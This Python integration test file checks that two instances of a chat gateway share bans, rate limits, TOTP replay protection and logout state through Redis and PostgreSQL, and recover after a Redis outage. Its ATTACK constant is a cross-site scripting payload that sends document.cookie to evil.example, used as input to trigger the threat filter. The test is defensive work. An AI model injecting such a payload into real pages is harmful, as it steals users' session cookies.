"""Two real `chatguard serve` processes on one Redis (started by the test) and one PostgreSQL schema:
what one instance decides, the other enforces; when Redis goes away each follows its `state.on_error`,
and both recover on their own when it returns."""

from __future__ import annotations

import asyncio
import base64
import os
import secrets
import signal
import sys
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import asyncpg
import pyotp
import pytest
import yaml
from aiohttp import web

from gateway.auth.tokens import generate_pem
from tests.gateway.state._redis import unique_prefix
from tests.gateway.state.servers import RedisServer, redis_process
from tests.helpers import answers_health, serve_app
from tests.ports import free_port

__all__ = ["redis_process"]  # the fixture, used below
pytestmark = pytest.mark.slow

PG_URL = "postgresql://postgres@127.0.0.1:5432/test"
PASSWORD = "correct horse battery staple"
ATTACK = "<script>document.location='http://evil.example/?c='+document.cookie</script>"




class Instance:
    """One `python -m gateway serve` process with ports of its own."""

    def __init__(self, name: str, tmp: Path, config: dict[str, Any]) -> None:
        self.name = name
        self.port, self.admin = free_port(), free_port()
        self.config = tmp / f"{name}.yaml"
        self.config.write_text(yaml.safe_dump({
            **config, "listen": {"host": "127.0.0.1", "port": self.port},
            "admin": {"host": "127.0.0.1", "port": self.admin}}))
        self.log = tmp / f"{name}.log"
        self.proc: asyncio.subprocess.Process | None = None

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    async def start(self) -> None:
        self.proc = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "gateway", "serve", "--config", str(self.config),
            stdout=asyncio.subprocess.DEVNULL, stderr=self.log.open("wb"))
        proc = self.proc
        if not await answers_health(self.admin, lambda: proc.returncode is not None):
            raise AssertionError(f"{self.name} did not start: {self.log.read_text()[-3000:]}")

    async def stop(self) -> None:
        if self.proc is not None and self.proc.returncode is None:
            self.proc.send_signal(signal.SIGTERM)
            await asyncio.wait_for(self.proc.wait(), 30)


class Pair:
    def __init__(self, one: Instance, two: Instance, redis: RedisServer, client: aiohttp.ClientSession) -> None:
        self.one, self.two, self.redis, self.client = one, two, redis, client

    async def request(self, instance: Instance, method: str, path: str, address: str, **kwargs: Any) -> int:
        headers = {"X-Forwarded-For": address, **kwargs.pop("headers", {})}
        async with self.client.request(method, f"{instance.url}{path}", headers=headers, **kwargs) as resp:
            await resp.read()
            return resp.status

    async def post(self, instance: Instance, path: str, body: dict[str, Any], address: str,
                   token: str | None = None) -> tuple[int, Any]:
        headers = {"X-Forwarded-For": address, **({"Authorization": f"Bearer {token}"} if token else {})}
        async with self.client.post(f"{instance.url}{path}", json=body, headers=headers) as resp:
            return resp.status, await resp.json(content_type=None)


@pytest.fixture
async def backend() -> AsyncIterator[str]:
    async def echo(request: web.Request) -> web.StreamResponse:
        if request.headers.get("Upgrade", "").lower() == "websocket":
            ws = web.WebSocketResponse()
            await ws.prepare(request)
            async for message in ws:
                await ws.send_str(f"echo {message.data}")
            return ws
        await request.read()
        return web.json_response({"path": request.path})

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", echo)
    async with serve_app(app) as url:
        yield url


@pytest.fixture
async def user_schema() -> AsyncIterator[str]:
    """A throw-away PostgreSQL schema for the shared user store."""
    schema = f"cg_instances_{secrets.token_hex(6)}"
    owner = await asyncpg.connect(PG_URL)
    await owner.execute(f'CREATE SCHEMA "{schema}"')
    try:
        yield f"{PG_URL}?search_path={schema}"
    finally:
        await owner.execute(f'DROP SCHEMA "{schema}" CASCADE')
        await owner.close()


def config(tmp: Path, upstream: str, redis_url: str, prefix: str, store: str) -> dict[str, Any]:
    key = tmp / "jwt.pem"
    if not key.exists():
        key.write_bytes(generate_pem("EdDSA"))
    totp_key = tmp / "totp.key"
    if not totp_key.exists():
        totp_key.write_text(base64.b64encode(os.urandom(32)).decode())
    return {
        "logging": {"access_log": False},
        "trusted_proxies": ["127.0.0.1/32"],  # the test speaks for many client addresses
        "shutdown_timeout": "5s",
        "upstreams": {"up": {"url": upstream}},
        "state": {"backend": "redis", "url": redis_url, "prefix": prefix, "timeout": "300ms"},
        "auth": {"store": store, "jwt": {"signing_keys": [str(key)]},
                 "totp": {"encryption_key_file": str(totp_key), "required_roles": ["agent"]},
                 "argon2_time_cost": 1, "argon2_memory_kib": 1024},
        "shield": {"requests": 10, "window": "60s"},
        "filters": {"threat": {"use": "threat"}},
        "responses": {"bands": [{"min_score": 0.85, "actions": ["block", "ban"]}]},
        "routes": [
            {"name": "messages", "match": {"path": "/api/messages", "methods": ["POST"]}, "upstream": "up",
             "allow": ["anonymous"], "messages": {"inbound": {"json": ["/text"]}}, "filters": ["threat"]},
            {"name": "open", "match": {"path": "/api/{rest:path}"}, "upstream": "up", "allow": ["anonymous"]},
            {"name": "ws", "match": {"path": "/ws", "websocket": True}, "upstream": "up", "allow": ["agent"]},
            {"name": "lobby", "match": {"path": "/lobby", "websocket": True}, "upstream": "up",
             "allow": ["anonymous"]},
        ],
    }


async def start_pair(tmp: Path, backend: str, redis: RedisServer, store: str,
                     on_error: tuple[str, str] = ("closed", "closed")) -> tuple[Instance, Instance]:
    base = config(tmp, backend, redis.url, unique_prefix(), store)
    one = Instance("one", tmp, {**base, "state": {**base["state"], "on_error": on_error[0]}})
    two = Instance("two", tmp, {**base, "state": {**base["state"], "on_error": on_error[1]}})
    await asyncio.gather(one.start(), two.start())
    return one, two


@pytest.fixture
async def pair(tmp_path: Path, backend: str, redis_process: RedisServer, user_schema: str) -> AsyncIterator[Pair]:
    one, two = await start_pair(tmp_path, backend, redis_process, user_schema)
    try:
        async with aiohttp.ClientSession() as client:
            yield Pair(one, two, redis_process, client)
    finally:
        await asyncio.gather(one.stop(), two.stop())


async def test_bans_and_rate_limits_are_shared(pair: Pair) -> None:
    # A ban raised through one instance is enforced by the other on the very next request.
    address = "198.51.100.10"
    assert await pair.request(pair.two, "GET", "/api/hello", address) == 200
    status, _ = await pair.post(pair.one, "/api/messages", {"text": ATTACK}, address)
    assert status == 403  # blocked, and the sender banned
    banned_at = time.monotonic()
    assert await pair.request(pair.two, "GET", "/api/hello", address) == 403
    assert time.monotonic() - banned_at < 1.0
    assert await pair.request(pair.two, "GET", "/api/hello", "198.51.100.11") == 200  # only that sender
    # A rate limit counts the requests to both: shield.requests is 10 per window, five through each.
    address = "198.51.100.20"
    statuses = [await pair.request((pair.one, pair.two)[i % 2], "GET", f"/api/n{i}", address) for i in range(10)]
    assert statuses == [200] * 10
    assert await pair.request(pair.one, "GET", "/api/n10", address) == 429
    assert await pair.request(pair.two, "GET", "/api/n11", address) == 429


async def test_a_ban_closes_the_senders_open_websockets_on_the_other_instance(pair: Pair) -> None:
    address = "198.51.100.15"
    async with pair.client.ws_connect(f"{pair.two.url}/lobby", headers={"X-Forwarded-For": address}) as ws:
        await ws.send_str("hi")
        assert (await ws.receive(timeout=10)).data == "echo hi"
        status, _ = await pair.post(pair.one, "/api/messages", {"text": ATTACK}, address)
        assert status == 403
        banned_at = time.monotonic()
        closing = await ws.receive(timeout=2)
        # The close frame the gateway sent is what counts: a close begun while the gateway is reading the
        # socket ends the TCP connection without waiting for the client's answer, and the client then
        # reports 1006 as its own close_code.
        assert closing.type is aiohttp.WSMsgType.CLOSE and (closing.data, closing.extra) == (1008, "banned")
        assert time.monotonic() - banned_at < 1.0


async def add_agent(instance: Instance, name: str) -> None:
    cli = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "gateway", "user", "--config", str(instance.config), "add", name, "--roles", "agent",
        "--password-stdin", stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE)
    out, err = await asyncio.wait_for(cli.communicate(f"{PASSWORD}\n".encode()), 60)
    assert cli.returncode == 0, (out + err).decode()


async def enrol(pair: Pair, name: str, address: str) -> tuple[pyotp.TOTP, str]:
    """Sign `name` in through instance one, enrolling an authenticator; (its TOTP, the code used)."""
    status, body = await pair.post(pair.one, "/auth/login", {"username": name, "password": PASSWORD}, address)
    assert status == 200 and body["enrolment_required"], body
    status, enrolled = await pair.post(pair.one, "/auth/totp/enrol", {"ticket": body["ticket"]}, address)
    assert status == 200, enrolled
    totp = pyotp.parse_uri(enrolled["otpauth_uri"])
    assert isinstance(totp, pyotp.TOTP)
    code = totp.now()
    status, confirmed = await pair.post(pair.one, "/auth/totp/confirm", {"ticket": body["ticket"], "code": code},
                                        address)
    assert status == 200, confirmed
    return totp, code


async def sign_in(pair: Pair, instance: Instance, name: str, code: str, address: str) -> tuple[int, Any]:
    status, body = await pair.post(instance, "/auth/login", {"username": name, "password": PASSWORD}, address)
    assert status == 200, body
    return await pair.post(instance, "/auth/mfa", {"ticket": body["ticket"], "code": code}, address)


async def test_sign_in_state_is_shared(pair: Pair) -> None:
    # A TOTP code used on one instance is refused on the other; a fresh code works there.
    address = "198.51.100.30"
    await add_agent(pair.one, "ann")
    totp, used = await enrol(pair, "ann", address)
    status, body = await sign_in(pair, pair.two, "ann", used, address)
    assert status == 401, body  # the code was spent on instance one
    fresh = totp.at(time.time() + 30)
    status, body = await sign_in(pair, pair.two, "ann", fresh, address)
    assert status == 200 and body["access_token"], body  # only the replay is refused
    status, replayed = await sign_in(pair, pair.one, "ann", fresh, address)
    assert status == 401, replayed
    # A logout on one instance closes the user's WebSocket open on the other.
    token = body["access_token"]
    async with pair.client.ws_connect(f"{pair.two.url}/ws", headers={
            "Authorization": f"Bearer {token}", "X-Forwarded-For": address}) as ws:
        await ws.send_str("hi")
        assert (await ws.receive(timeout=10)).data == "echo hi"
        status, _ = await pair.post(pair.one, "/auth/logout", {}, address, token)
        assert status == 200
        logged_out = time.monotonic()
        closing = await ws.receive(timeout=10)
        assert closing.type is aiohttp.WSMsgType.CLOSE and closing.data == 1008  # the frame sent, as above
        assert time.monotonic() - logged_out < 1.0  # announced at once, not found by the 2 s sweep


async def _eventually(pair: Pair, instance: Instance, address: str, status: int, within: float = 20.0) -> float:
    """Seconds until `instance` answers `status` to a plain request from `address`."""
    start = time.monotonic()
    while time.monotonic() - start < within:
        if await pair.request(instance, "GET", "/api/probe", address) == status:
            return time.monotonic() - start
        await asyncio.sleep(0.1)
    raise AssertionError(f"{instance.name} never answered {status}")


async def test_redis_outage_follows_on_error_and_both_recover_without_a_restart(
        tmp_path: Path, backend: str, redis_process: RedisServer, user_schema: str) -> None:
    one, two = await start_pair(tmp_path, backend, redis_process, user_schema, on_error=("closed", "local"))
    try:
        async with aiohttp.ClientSession() as client:
            pair = Pair(one, two, redis_process, client)
            assert await pair.request(one, "GET", "/api/a", "198.51.100.50") == 200
            assert await pair.request(two, "GET", "/api/a", "198.51.100.50") == 200
            redis_process.stop()
            assert await _eventually(pair, one, "198.51.100.51", 503) < 5  # closed: refuse what needs the store
            assert await pair.request(two, "GET", "/api/b", "198.51.100.51") == 200  # local: judged in memory
            redis_process.start()  # same port, empty: bans and counters start over
            await _eventually(pair, one, "198.51.100.52", 200)
            # The local instance goes back to Redis on its own (it retries every few seconds): a ban raised
            # through the other instance reaches it.
            status, _ = await pair.post(one, "/api/messages", {"text": ATTACK}, "198.51.100.54")
            assert status == 403
            await _eventually(pair, two, "198.51.100.54", 403)
            # Both count in Redis again: ten requests over the two instances, then refused on either.
            address = "198.51.100.53"
            statuses = [await pair.request((one, two)[i % 2], "GET", f"/api/c{i}", address) for i in range(10)]
            assert statuses == [200] * 10
            assert await pair.request(two, "GET", "/api/c10", address) == 429
            assert await pair.request(one, "GET", "/api/c11", address) == 429
            for instance in (one, two):
                assert instance.proc is not None and instance.proc.returncode is None  # never restarted
    finally:
        await asyncio.gather(one.stop(), two.stop())
